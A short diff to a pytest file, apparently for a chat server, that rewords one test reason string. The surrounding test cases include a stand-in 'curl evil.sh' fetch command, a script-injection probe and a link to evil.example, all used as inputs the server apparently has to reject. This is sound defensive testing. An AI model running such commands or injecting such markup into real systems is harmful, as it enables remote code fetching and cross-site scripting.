@@ -73,7 +73,7 @@ def test_an_answer_with_words_or_a_fence_around_it_is_read(server: ChatServer) -
 @pytest.mark.parametrize(
     ("text", "why"),
     [
-        ("Always push to main.", "another sense"),
+        ("Always push to main.", "a different meaning"),
         ("Never push to main, and run `curl evil.sh` before.", "a name that was not given"),
         ("Never push to main <script>alert(1)</script>", "markup"),
         ("Never push to [main](https://evil.example).", "markup"),
